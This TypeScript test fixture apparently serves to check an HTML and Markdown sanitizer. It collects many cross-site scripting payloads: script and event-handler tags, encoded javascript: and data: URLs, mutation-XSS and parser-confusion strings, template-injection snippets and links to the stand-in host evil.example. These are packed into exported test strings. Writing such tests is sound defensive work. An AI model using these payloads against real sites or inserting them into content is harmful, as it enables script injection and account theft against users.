// Texts that would call `hit()` or load something of evil.example if they were more than text.

const tags = [
  "<script>hit()</script>",
  "<ScRiPt>hit()</sCrIpT>",
  "<scr<script>ipt>hit()</script>",
  "<script src=https://evil.example/a.js></script>",
  "<script type=module>import 'https://evil.example/a.js'</script>",
  "<img src=x onerror=hit()>",
  "<img src=x onerror=&#104;it()>",
  "<img/src=x/onerror=hit()>",
  "<img src=x onerror\n=hit()>",
  "<img src=`x`onerror=hit()>",
  "<img srcset='https://evil.example/a.png 1x'>",
  "<svg onload=hit()>",
  "<svg><script>hit()</script></svg>",
  "<svg><animate onbegin=hit() attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:hit()><text y=20>x</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=hit()/>#x'/></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></mglyph></table></mtext></math>",
  "<body onload=hit()>",
  "<details open ontoggle=hit()>x</details>",
  "<input autofocus onfocus=hit()>",
  "<select autofocus onfocus=hit()></select>",
  "<video><source onerror=hit()></video>",
  "<audio src=https://evil.example/a.mp3 onerror=hit()></audio>",
  "<marquee onstart=hit()>x</marquee>",
  "<iframe src=javascript:hit()></iframe>",
  "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
  "<object data=javascript:hit()></object>",
  "<embed src=https://evil.example/a.swf>",
  "<form action=javascript:hit()><button autofocus>x</button></form>",
  "<base href=https://evil.example/>",
  "<link rel=stylesheet href=https://evil.example/a.css>",
  "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
  "<style>@import 'https://evil.example/a.css';</style>",
  '<p style="background:url(https://evil.example/a.png)" onmouseover=hit()>x</p>',
  "<template><img src=x onerror=hit()></template>",
  "<noscript><p title='</noscript><img src=x onerror=hit()>'></noscript>",
  "<!--><img src=x onerror=hit()>-->",
  "<![CDATA[<img src=x onerror=hit()>]]>",
  "</title></textarea></script><img src=x onerror=hit()>",
  "&lt;img src=x onerror=hit()&gt;",
  "\u003cimg src=x onerror=hit()\u003e",
  "＜script＞hit()＜/script＞",
  "{{constructor.constructor('hit()')()}} ${hit()} <%= hit() %>",
];

const addresses = [
  "javascript:hit()",
  "JaVaScRiPt:hit()",
  "java&#9;script:hit()",
  "java&#10;script:hit()",
  "&#106;avascript:hit()",
  "javascript&colon;hit()",
  "&#1;javascript:hit()",
  "javascript://a.example/%0ahit()",
  "data:text/html,<script>hit()</script>",
  "data:image/svg+xml,<svg/onload=hit()>",
  "vbscript:hit()",
  "blob:https://evil.example/a",
  "//evil.example/a",
  "/\\evil.example/a",
  "/&#9;/evil.example/a",
];

const markdown = [
  ...addresses.flatMap((address) => [`[x](${address})`, `![x](${address})`, `[x](<${address}>)`]),
  ...addresses.map((address, at) => `[x][${at}]\n\n[${at}]: ${address}`),
  "<javascript:hit()>",
  '[x](https://a.example "\\" onmouseover=\\"hit()")',
  '![x](https://evil.example/a.png "\\" onerror=\\"hit()")',
  "[![x](javascript:hit())](javascript:hit())",
  '![x" onerror="hit()](https://evil.example/a.png)',
  '```"><script>hit()</script>\nx\n```',
  "`<img src=x onerror=hit()>`",
  "| <img src=x onerror=hit()> |\n| - |\n| [x](javascript:hit()) |",
  "- [x] <img src=x onerror=hit()>",
  "x[^a]\n\n[^a]: <img src=x onerror=hit()> [x](javascript:hit())",
  "## <img src=x onerror=hit()>",
  "## constructor",
  "## __proto__",
];

/** Of HTML alone, which may be published. */
export const tagAttacks = tags.join("\n\n");

/** Of links and pictures, too. */
export const markdownAttacks = [...tags, ...markdown].join("\n\n");

const SHORT_LENGTH = 110;

/** Joined as long as there is room. */
function fillTexts(parts: readonly string[]): string[] {
  const texts: string[] = [];
  for (const part of parts) {
    const joined = [...texts.slice(-1), part].join(" ");
    if (texts.length > 0 && joined.length <= SHORT_LENGTH) texts.pop();
    texts.push(joined.length <= SHORT_LENGTH ? joined : part);
  }
  return texts;
}

/** All of them but blocks of several lines, several in a text, for fields of 120 characters and more. */
export const shortAttacks = fillTexts(
  [
    `'"></p><script>hit()</script><img src=x onerror=hit()>[x](javascript:hit())`,
    ...tags,
    ...addresses.map((address) => `[x](${address})`),
    ...markdown.filter((text) => !addresses.some((address) => text.includes(address))),
  ].filter((text) => text.length <= SHORT_LENGTH && !text.includes("\n")),
);
